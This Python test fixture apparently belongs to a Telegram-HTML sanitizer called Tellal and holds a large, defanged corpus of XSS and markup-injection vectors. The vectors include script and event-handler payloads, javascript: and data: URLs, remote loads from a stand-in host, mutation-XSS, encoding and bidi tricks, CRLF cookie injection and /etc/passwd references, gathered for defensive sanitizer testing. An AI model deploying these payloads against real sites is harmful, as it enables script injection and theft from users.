"""Markup that wants to run, be fetched, or pass for ours: by family. `x.example` is where it would phone home; `hit(…)` is what it would call.

Written for Tellal from the known classes of attack. The judges in `support.judges` say whether anything of it is alive.
"""

from __future__ import annotations

_CALL = "hit(1)"
_FROM = "//x.example/a"

SCRIPTS = [
    f"<script>{_CALL}</script>", f"<ScRiPt src={_FROM}.js></sCrIpT>", f"<script/x>{_CALL}</script>", f"<script\n>{_CALL}</script\n>", f"<<script>{_CALL}//<</script>",
    f"<script>{_CALL}", f"<script\x0c>{_CALL}</script>", f"<script type=module>{_CALL}</script>", f"<script>/*<!--*/{_CALL}//--></script>", f"<script nomodule defer src={_FROM}></script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>", f"<scr\x00ipt>{_CALL}</scr\x00ipt>", f"\x00<script\x00>{_CALL}</script>", f"<\u200bscript>{_CALL}</script>", f"\ufeff<script>{_CALL}</script>",
    "<script>eval('hi'+'t(1)')</script>", f"<script>`${{{_CALL}}}`</script>", f"<script x='>' >{_CALL}</script>", f"</script><script>{_CALL}</script>", f"<script><!--<script></script>{_CALL}--></script>",
]  # fmt: skip
HANDLERS = [
    f"<img src=x onerror={_CALL}>", f"<img/src=x/onerror={_CALL}>", f"<img src=x:x onerror\x0b={_CALL}>", f"<img src=`x`onerror={_CALL}>", f"<img src='x'onerror='{_CALL}'>", f'<img src="x" ONERROR = "{_CALL}" >',
    "<img src=x onerror=&#104;it(1)>", "<img src=x onerror='&#x68;it(1)'>", f"<body onload={_CALL}>", f"<body onpageshow={_CALL}>", f"<input onfocus={_CALL} autofocus>", f"<select onfocus={_CALL} autofocus>",
    f"<textarea onfocus={_CALL} autofocus></textarea>", f"<video><source onerror={_CALL}></video>", f"<audio src=x onerror={_CALL}></audio>", f"<details open ontoggle={_CALL}>x</details>", f"<marquee onstart={_CALL}>x</marquee>",
    f"<xss onclick={_CALL} tabindex=1 id=x>x</xss>", f"<x onmouseover={_CALL}>x</x>", f"<div style=animation-name:x onanimationstart={_CALL}>x</div>", f"<b onpointerrawupdate={_CALL}>x</b>", f"<iframe onload={_CALL}></iframe>",
    f"<object onerror={_CALL} data=x></object>", f"<link rel=stylesheet href=x onerror={_CALL}>", f"<style onload={_CALL}></style>", f"<input type=image src=x onerror={_CALL}>", f"<track onerror={_CALL} src=x default>",
    f"<dialog open oncancel={_CALL}>x</dialog>", f"<p popover onbeforetoggle={_CALL}>x</p>", f"<a onfocusin={_CALL} href=# autofocus>x</a>",
]  # fmt: skip
ADDRESSES = [
    f"<a href=javascript:{_CALL}>x</a>", f"<a href='jav\tascript:{_CALL}'>x</a>", f"<a href='jav&#10;ascript:{_CALL}'>x</a>", f"<a href='&#106;avascript:{_CALL}'>x</a>", f"<a href='&#0000106avascript:{_CALL}'>x</a>",
    f"<a href=javascript&colon;{_CALL}>x</a>", f"<a href=' javascript:{_CALL}'>x</a>", f"<a href='\x01javascript:{_CALL}'>x</a>", f"<a href='JaVaScRiPt:{_CALL}'>x</a>", f"<a href='java\u2028script:{_CALL}'>x</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4='>x</a>", f"<a href='vbscript:{_CALL}'>x</a>", f"<a href='feed:javascript:{_CALL}'>x</a>",
    f"<a href='view-source:javascript:{_CALL}'>x</a>", f"<a\nhref=javascript:{_CALL}>x</a>", f'<a href="javascript://x.example/%0a{_CALL}">x</a>', "<a href='blob:https://x.example/1'>x</a>", "<a href='file:///etc/passwd'>x</a>",
    f"<form action=javascript:{_CALL}><input type=submit></form>", f"<form><button formaction=javascript:{_CALL}>x</button></form>", f"<iframe src=javascript:{_CALL}></iframe>", f"<embed src=javascript:{_CALL}>",
    f"<object data=javascript:{_CALL}></object>", f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>", f"<iframe src='data:text/html,<script>{_CALL}</script>'></iframe>", f"<area href=javascript:{_CALL}>", f"<base href=javascript:{_CALL}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>", f"<meta http-equiv=refresh content='0;url={_FROM}'>", "<meta http-equiv=set-cookie content=a=b>", f"<base href={_FROM}>", "<base target=_parent>",
]  # fmt: skip
FETCHED = [
    f"<img src={_FROM}.png>", f"<img srcset='{_FROM}.png 1x'>", f"<picture><source srcset={_FROM}.png><img></picture>", f"<video poster={_FROM}.png></video>", f"<audio src={_FROM}.mp3 autoplay></audio>", f"<embed src={_FROM}>",
    f"<object data={_FROM}></object>", f"<iframe src={_FROM}></iframe>", f"<link rel=stylesheet href={_FROM}.css>", f"<link rel=prefetch href={_FROM}>", f"<link rel=icon href={_FROM}.ico>", f"<link rel=manifest href={_FROM}>",
    f"<table background={_FROM}.png><td>x</table>", f"<td background={_FROM}.png>x", f"<body background={_FROM}.png>", f"<input type=image src={_FROM}.png>", f"<svg><image href={_FROM}.png /></svg>", f"<svg><use href='{_FROM}.svg#a'/></svg>",
    f"<style>@import '{_FROM}.css';</style>", f"<style>body{{background:url({_FROM}.png)}}</style>", f"<div style='background:url({_FROM}.png)'>x</div>", f"<div style='width:expression({_CALL})'>x</div>", f"<p style='content:url({_FROM})'>x</p>",
    f"<style>*{{x:expression({_CALL})}}</style>", f"<div style='-moz-binding:url({_FROM}#x)'>x</div>", f"<script>fetch('{_FROM}')</script>", f"<a ping={_FROM} href=https://x.example/>x</a>", f"<frameset><frame src={_FROM}></frameset>",
    f"<style>@font-face{{font-family:x;src:url({_FROM})}}*{{font-family:x}}</style>", f"<bgsound src={_FROM}>",
]  # fmt: skip
FOREIGN = [
    f"<svg onload={_CALL}>", f"<svg/onload={_CALL}//", f"<svg><script>{_CALL}</script></svg>", f"<svg><script href={_FROM} /></svg>", f"<svg><a xlink:href=javascript:{_CALL}><text y=9>x</text></a></svg>", f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={_CALL} attributeName=x>", f"<svg><style><img src=x onerror={_CALL}></style></svg>", f"<svg><title><script>{_CALL}</script></title></svg>", f"<svg><foreignObject><script>{_CALL}</script></foreignObject></svg>",
    f"<svg><desc><![CDATA[</desc><script>{_CALL}</script>]]></svg>", f"<svg><![CDATA[><image xlink:href=x onerror={_CALL}>]]></svg>", f"<svg><discard onbegin={_CALL}>", f"<svg><a><animate attributeName=href values=javascript:{_CALL} /><text>x</text></a></svg>",
    f"<math href=javascript:{_CALL}>x</math>", f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>", f"<math><annotation-xml encoding=text/html><script>{_CALL}</script>", f"<math><mi//xlink:href=data:x,{_CALL}>x", f"<math><maction actiontype=statusline xlink:href=javascript:{_CALL}>x",
    f"<svg xmlns='http://www.w3.org/2000/svg'><g onload={_CALL}></g></svg>",
]  # fmt: skip
MUTATING = [
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>", f"<title><img src=x onerror={_CALL}></title>", f"<textarea></textarea><script>{_CALL}</script>", f"<xmp><script>{_CALL}</script></xmp>", f"<plaintext><script>{_CALL}</script>",
    f"<listing>&lt;img src=x onerror={_CALL}&gt;</listing>", f"<template><script>{_CALL}</script></template>", f"<noembed><img src=x onerror={_CALL}></noembed>", f"<noframes><img src=x onerror={_CALL}></noframes>", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_CALL}>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror={_CALL}>'></style></h1>", f"<svg></p><style><a id='</style><img src=x onerror={_CALL}>'>", f"<select><template><img src=x onerror={_CALL}></template></select>", f"<table><style><img src=x onerror={_CALL}></style></table>",
    f"<p id='</p><img src=x onerror={_CALL}>'>x</p>", f"<a title='--><img src=x onerror={_CALL}>'>x</a>", f"<div><template shadowrootmode=open><script>{_CALL}</script></template></div>", f"<svg><p><style><!--</style><img src=x onerror={_CALL}>--></style>", f"<image src=x onerror={_CALL}>", f"<isindex type=image src=x onerror={_CALL}>",
]  # fmt: skip
COMMENTS = [
    f"<!--[if gte IE 4]><script>{_CALL}</script><![endif]-->", f"<!-- --!><script>{_CALL}</script>", f"<!--><script>{_CALL}</script>-->", f"<!---><script>{_CALL}</script>-->", f"<![CDATA[<script>{_CALL}</script>]]>", f"<?xml-stylesheet href=javascript:{_CALL}?>", f"<?php echo 1 ?><script>{_CALL}</script>",
    "<!DOCTYPE x [<!ENTITY a '<script>'>]>&a;", f"<!doctype html><script>{_CALL}</script>", f"<!--{{{{x}}}}--><script>{_CALL}</script>", f"<% <script>{_CALL}</script> %>", f"</ <script>{_CALL}</script>", f"<!x><script>{_CALL}</script>", f"<//><script>{_CALL}</script>",
]  # fmt: skip
BREAKING_OUT = [
    f'"><script>{_CALL}</script>', f"'><img src=x onerror={_CALL}>", f"--><script>{_CALL}</script>", f"]]><script>{_CALL}</script>", f"</title><script>{_CALL}</script>", f"</textarea><script>{_CALL}</script>", f"</style><script>{_CALL}</script>", f"</a></b></i><script>{_CALL}</script>", f'" onmouseover="{_CALL}" x="',
    f"' onfocus='{_CALL}' autofocus='", f"` onclick={_CALL} `", f'" style="background:url({_FROM})', f"javascript:{_CALL}", f"{{{{constructor.constructor('{_CALL}')()}}}}", "{% include '/etc/passwd' %}", f"${{{_CALL}}}", f"</p></div></td></tr></table><script>{_CALL}</script>", "]]]]><![CDATA[>",
]  # fmt: skip
ENCODED = [
    f"&lt;script&gt;{_CALL}&lt;/script&gt;", f"&lt;img src=x onerror={_CALL}&gt;", f"&amp;lt;script&amp;gt;{_CALL}&amp;lt;/script&amp;gt;", f"&#60;script&#62;{_CALL}&#60;/script&#62;", f"&#x3c;script&#x3e;{_CALL}&#x3c;/script&#x3e;", f"&#0000060script&#0000062{_CALL}", f"&LT;script&GT;{_CALL}&LT;/script&GT;", f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e", f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-", f"＜script＞{_CALL}＜/script＞", f"‹script›{_CALL}‹/script›", f"<\u017fcript>{_CALL}</\u017fcript>", f"<sc\u0131pt>{_CALL}</sc\u0131pt>", f"&lt&lt;script>{_CALL}</script>", f"<img src=x onerror=&quot;{_CALL}&quot;>", f"<\u0130mg src=x onerror={_CALL}>",
    f"\ud83d<script>{_CALL}</script>", f"&nbsp<script>{_CALL}</script>", f"&lt;!--&gt;&lt;img src=x onerror={_CALL}&gt;--&gt;",
]  # fmt: skip
TELEGRAM = [
    "<b><a href='tg://user?id=1'>admin</a></b>", "<a href='tg://resolve?domain=x&start=y'>x</a>", "<tg-spoiler>x</tg-spoiler>", "<span class='tg-spoiler'>x</span>", "<tg-emoji emoji-id='5368324170671202286'>x</tg-emoji>", "<pre><code class='language-js'>x</code></pre>", "<blockquote expandable>x</blockquote>",
    "</b></i></a>", "<b><i>x</b></i>", "<a href='https://x.example/'>https://dnipro-visnyk.example.org/</a>", "[x](javascript:hit(1))", "[x](https://x.example/)", "*x* _x_ `x` ||x||", "<u><s>x</s></u>", "<a href=\"https://x.example/\" onclick='hit(1)'>x</a>", "&bogus; &#0; &#xFFFFFFFF; &#1114112;",
]  # fmt: skip
TURNED = [
    "\u202eabc <script>hit(1)</script>", "x\u2066<b>y\u2069</b>", "\u200f\u200e\u061cx", "\u2067<img src=x onerror=hit(1)>\u2069\u2069\u2069", "a\u202dmoc.elpmaxe.x//:sptth\u202c", "\u2028<script>hit(1)</script>\u2029", "<a href='https://x.example/\u202ecod.exe'>x</a>", "\x1b[31m<script>hit(1)</script>", "x\r\nSet-Cookie: a=b\r\n\r\n<script>hit(1)</script>",
    "\U000e0001<script>hit(1)</script>\U000e007f",
]  # fmt: skip

FAMILIES = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "addresses": ADDRESSES, "fetched": FETCHED, "foreign": FOREIGN, "mutating": MUTATING, "comments": COMMENTS, "breaking out": BREAKING_OUT, "encoded": ENCODED, "telegram": TELEGRAM, "turned": TURNED,
}  # fmt: skip
VECTORS = tuple(dict.fromkeys(vector for family in FAMILIES.values() for vector in family))
LINKS = (
    "javascript:hit(1)", "JAVASCRIPT:hit(1)", " javascript:hit(1)", "java\tscript:hit(1)", "java\nscript:hit(1)", "\x01javascript:hit(1)", "javascript&colon;hit(1)", "&#106;avascript:hit(1)", "data:text/html,<script>hit(1)</script>",
    "vbscript:hit(1)", 'https://x.example/"onmouseover="hit(1)', "https://x.example/'><script>hit(1)</script>", "https://x.example/<script>hit(1)</script>", 'https://x.example/"><img src=x onerror=hit(1)>', '//x.example"onclick=hit(1)//',
    'https://x.example/?a=" style="background:url(//x.example/a)', "https://dnipro-visnyk.example.org@x.example/", "https://x.example/\u202egpj.exe", "tg://user?id=1", "tg://resolve?domain=x", "https://x.example/`onclick=hit(1)`", "https://x.example/\r\nSet-Cookie:a=b",
    "feed:javascript:hit(1)", "mailto:a@x.example?body=<script>hit(1)</script>", "https://x.example/%22onclick=%22hit(1)", "http:javascript:hit(1)", "https:/\\x.example/", "\\\\x.example\\a", "ftp://x.example/", "file:///etc/passwd", "about:blank#<script>hit(1)</script>", "blob:https://x.example/1",
)  # fmt: skip
